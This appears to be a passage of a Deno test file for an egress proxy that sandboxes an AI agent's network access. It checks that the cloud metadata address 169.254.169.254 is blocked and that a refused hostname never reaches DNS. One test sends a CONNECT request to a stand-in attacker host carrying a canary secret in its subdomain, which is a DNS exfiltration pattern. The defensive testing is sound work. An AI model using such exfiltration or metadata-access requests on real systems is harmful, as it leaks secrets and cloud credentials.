  fn: async () => {
    const origin = await startOrigin("http");
    try {
      await withProxy({
        hosts: "127.0.0.1 origin.test\n169.254.169.254 metadata.test\n",
        judge: METADATA_JUDGE,
      }, async (
        { port, events, dir },
      ) => {
        const script = "import sys, urllib.request, urllib.error\n" +
          "try:\n  print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode(), end='')\n" +
          "except urllib.error.HTTPError as e:\n  print(e.code, e.read().decode(), end='')\n";
        const env = { http_proxy: `http://127.0.0.1:${port}` };
        const ok = await runClient(
          "python3",
          ["-c", script, `http://origin.test:${origin.port}/py`],
          dir,
          env,
        );
        assert.equal(ok.code, 0, ok.stderr);
        assert.match(ok.stdout, /^GET \/py HTTP\/1\.1\r\n/);
        assert.match(ok.stdout, /\r\nConnection: close\r\n\r\n$/);
        const no = await runClient("python3", ["-c", script, "http://metadata.test/latest/"], dir, env);
        assert.equal(no.stdout, "403 AgentPerms egress: Link-local metadata addresses are never reachable\n");
        await events.wait(2);
        assert.deepEqual(events.list.map((e) => [e.protocol, e.host, e.allowed]), [
          ["http", "origin.test", true],
          ["http", "metadata.test", false],
        ]);
      });
    } finally {
      await origin.close();
    }
  },
});

Deno.test("startEgressProxy() never looks up a name the admit check refuses (no DNS exfiltration)", async () => {
  const looked: string[] = [];
  await withProxy({
    resolve: (host) => {
      looked.push(host);
      return Promise.resolve(["198.51.100.9"]);
    },
    admit: (t) =>
      t.host === "ok.test"
        ? { allow: true, reason: "ok", ruleIds: [] }
        : { allow: false, reason: "not allowed", ruleIds: ["sandbox/net"] },
    judge: () => ({ allow: false, reason: "refused after lookup", ruleIds: ["late"] }),
  }, async ({ port, events }) => {
    const refused = await exchange(port, "CONNECT canary-secret-6b3f.attacker.example:443 HTTP/1.1\r\n\r\n");
    assert.match(refused, /^HTTP\/1\.1 403 /);
    const [e] = await events.wait(1);
    assert.deepEqual([e!.allowed, e!.ruleIds, e!.addresses], [false, ["sandbox/net"], []]);
    await exchange(port, "CONNECT ok.test:443 HTTP/1.1\r\n\r\n");
    await events.wait(2);
    assert.deepEqual(looked, ["ok.test"], "only the admitted name reached the resolver");
  });
});
